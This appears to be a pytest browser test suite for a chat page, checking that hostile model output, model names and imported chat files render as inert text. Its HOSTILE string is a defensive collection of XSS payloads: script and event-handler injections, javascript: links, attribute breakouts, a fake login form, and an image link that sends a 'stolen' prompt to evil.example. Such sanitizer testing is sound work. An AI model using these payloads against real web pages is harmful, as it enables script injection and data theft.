"""What models, peers and files of strangers say is text on the chat page, whatever they say."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from browsing import SharedBrowser
from chat_browsing import READY, Talker, answers, ask, rerouted
from fake_node import STATUS
from playwright.async_api import Page, expect

pytestmark = pytest.mark.browser

HOSTILE = """<script>window.attacked = 1</script>
<img src=x onerror="window.attacked = 2">
<svg><animate onbegin="window.attacked = 3" attributeName=x></svg>
<iframe srcdoc="<script>parent.attacked = 4</script>"></iframe>
<form action="http://evil.example/"><input name=q><button>Log in</button></form>
<style>body { display: none }</style>
<div style="position: fixed; inset: 0" id="send">over everything</div>

[click](javascript:window.attacked=5) [data](data:text/html,<script>alert(1)</script>)
[quoted](https://example.org/"onmouseover="window.attacked=6) <a href="javascript:window.attacked=7">raw</a>
![spy](http://evil.example/?stolen=prompt) ![x](javascript:window.attacked=8)
<math><mtext></mtext><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=window.attacked=9&gt;">

```html" onmouseover="window.attacked=10
</code></pre><script>window.attacked = 11</script>
```

| <img src=x onerror=window.attacked=12> | b |
|--|--|
| [x]: javascript:window.attacked=13 | `<script>` |

<think><b>no</b></think> \u202ereversed
"""

# What may stand in an answer, and nothing else.
FOREIGN = """() => [...document.querySelectorAll('.answer .markdown *, .question .body *')]
    .flatMap((element) => [element.localName, ...element.getAttributeNames().map((name) => '@' + name)])"""
ELEMENTS = (
    "a blockquote br button code del div em h3 h4 h5 h6 hr li ol p pre span strong "
    "table tbody td th thead tr ul"
)
ATTRIBUTES = "@align @aria-label @class @data-action @href @rel @role @start @tabindex @target @title @type"
ALLOWED = {*ELEMENTS.split(), *ATTRIBUTES.split()}


async def assert_inert(page: Page, requests: list[str]) -> None:
    """Check that nothing ran, nothing was loaded from elsewhere, and only harmless elements stand there."""
    assert await page.evaluate("window.attacked") is None
    assert set(await page.evaluate(FOREIGN)) <= ALLOWED
    links = await page.eval_on_selector_all(".answer a", "links => links.map((link) => link.protocol)")
    assert set(links) <= {"http:", "https:"}
    assert [url for url in requests if "evil" in url] == []
    await expect(page.locator("#send")).to_have_count(1)


def test_answer_of_a_hostile_model_is_inert(browser: SharedBrowser) -> None:
    async def scenario() -> None:
        thinking = "<think>\n" + HOSTILE.replace("<think>", "").replace("</think>", "") + "</think>\n"
        pieces = [HOSTILE[i : i + 7] for i in range(0, len(HOSTILE), 7)]
        node = Talker(answers=[pieces, [thinking + HOSTILE]])
        async with browser.visiting(node, "/chat") as visit:
            requests: list[str] = []
            visit.page.on("request", lambda request: requests.append(request.url))
            await ask(visit.page, HOSTILE.splitlines()[0])
            await expect(answers(visit.page)).to_contain_text("<script>window.attacked = 1</script>")
            await assert_inert(visit.page, requests)
            await ask(visit.page, "Again")
            await visit.page.locator(".reasoning:visible summary").click()
            await assert_inert(visit.page, requests)
            await visit.page.hover("text=quoted")

    browser.run(scenario())


def test_page_refuses_what_did_not_pass_the_sanitizer(browser: SharedBrowser) -> None:
    async def scenario() -> None:
        async with browser.visiting(Talker(), "/chat", complaints=True) as visit:
            script = """() => {
                try {
                    document.getElementById("turns").innerHTML = "<b>past it</b>";
                } catch (error) {
                    return error.name;
                }
            }"""
            assert await visit.page.evaluate(script) == "TypeError"

    browser.run(scenario())


def test_hostile_names_are_text(browser: SharedBrowser) -> None:
    async def scenario() -> None:
        name = "<img src=x onerror=window.attacked=1>\u202e" + "long" * 100
        model = replace(STATUS.models[0], name=name, route=name)
        node = Talker(current=replace(STATUS, models=(model,)), answers=[["a", rerouted(name)]])
        async with browser.visiting(node, "/chat") as visit:
            page = visit.page
            await page.wait_for_selector(READY)
            await ask(page, "Who?")
            await expect(page.locator(".notes li")).to_contain_text("<img src=x")
            for shown in (".notes li", "#route", "#model option"):
                text = await page.inner_text(shown) or await page.locator(shown).text_content() or ""
                assert "\u202e" not in text
                assert len(text) < 120
            await assert_inert(page, [])
            assert await page.evaluate("document.documentElement.scrollWidth") <= 1280

    browser.run(scenario())


def saved_chat(**changes: Any) -> dict[str, Any]:
    """A file as the page exports it."""
    turns: list[dict[str, Any]] = [
        {"id": "a1", "parent": "", "role": "user", "content": HOSTILE, "answer": None},
        {"id": "a2", "parent": "a1", "role": "assistant", "content": HOSTILE, "answer": {"state": "writing"}},
    ]
    chat = {
        "format": "gridnode-chat",
        "version": 1,
        "id": "c1",
        "title": HOSTILE,
        "createdAt": 1,
        "changedAt": 2,
    }
    return {**chat, "model": "tiny", "system": "", "settings": {}, "leaf": "a2", "turns": turns, **changes}


def test_hostile_file_is_inert(browser: SharedBrowser, tmp_path: Path) -> None:
    async def scenario() -> None:
        async with browser.visiting(Talker(), "/chat") as visit:
            requests: list[str] = []
            visit.page.on("request", lambda request: requests.append(request.url))
            answer = {
                "state": "failed",
                "error": {"code": "__proto__", "message": HOSTILE},
                "notes": [HOSTILE],
            }
            chat = saved_chat()
            chat["turns"][1]["answer"] = {**answer, "route": [{"name": HOSTILE}], "tokensPerS": "<b>"}
            await import_file(visit.page, tmp_path, chat)
            await expect(visit.page.locator(".question .body")).to_contain_text("<script>")
            await assert_inert(visit.page, requests)
            await visit.page.reload()
            await expect(visit.page.locator(".question .body")).to_contain_text("<script>")
            await assert_inert(visit.page, requests)

    browser.run(scenario())


@pytest.mark.parametrize(
    "changes",
    [
        {"format": "other"},
        {"version": 2},
        {"id": "../x"},
        {"turns": "none"},
        {"turns": [{"id": "a", "parent": "a", "role": "user", "content": ""}]},
        {"turns": [{"id": "a", "parent": "", "role": "system", "content": ""}]},
        {"turns": [{"id": "a", "parent": "", "role": "user"}, {"id": "a", "parent": "", "role": "user"}]},
        {"turns": [{"id": f"t{i}", "parent": "", "role": "user"} for i in range(2001)]},
        {"turns": [None]},
    ],
)
def test_file_that_is_no_chat_is_refused(
    browser: SharedBrowser, tmp_path: Path, changes: dict[str, Any]
) -> None:
    async def scenario() -> None:
        async with browser.visiting(Talker(), "/chat") as visit:
            await import_file(visit.page, tmp_path, saved_chat(**changes))
            await expect(visit.page.locator("#notice")).to_contain_text("was not imported")
            await expect(visit.page.locator(".turn")).to_have_count(0)

    browser.run(scenario())


def test_chat_that_cannot_be_read_does_not_break_the_page(browser: SharedBrowser, tmp_path: Path) -> None:
    async def scenario() -> None:
        async with browser.visiting(Talker(), "/chat") as visit:
            page = visit.page
            await ask(page, "Mine")
            await page.evaluate(
                """() => new Promise((resolve) => {
                    const opening = indexedDB.open("gridnode-chat");
                    opening.onsuccess = () => {
                        const chats = opening.result.transaction("chats", "readwrite").objectStore("chats");
                        const id = location.hash.slice(1);
                        chats.put({ id, format: "gridnode-chat", version: 1 }).onsuccess = resolve;
                    };
                })"""
            )
            await page.reload()
            await expect(page.locator("#notice")).to_contain_text("cannot be read: the chat has no turns")
            await ask(page, "Still works")

    browser.run(scenario())


async def import_file(page: Page, directory: Path, chat: dict[str, Any]) -> None:
    path = directory / "chat.json"
    path.write_text(json.dumps(chat))
    await page.wait_for_selector(READY)
    await page.set_input_files("#import-file", path)
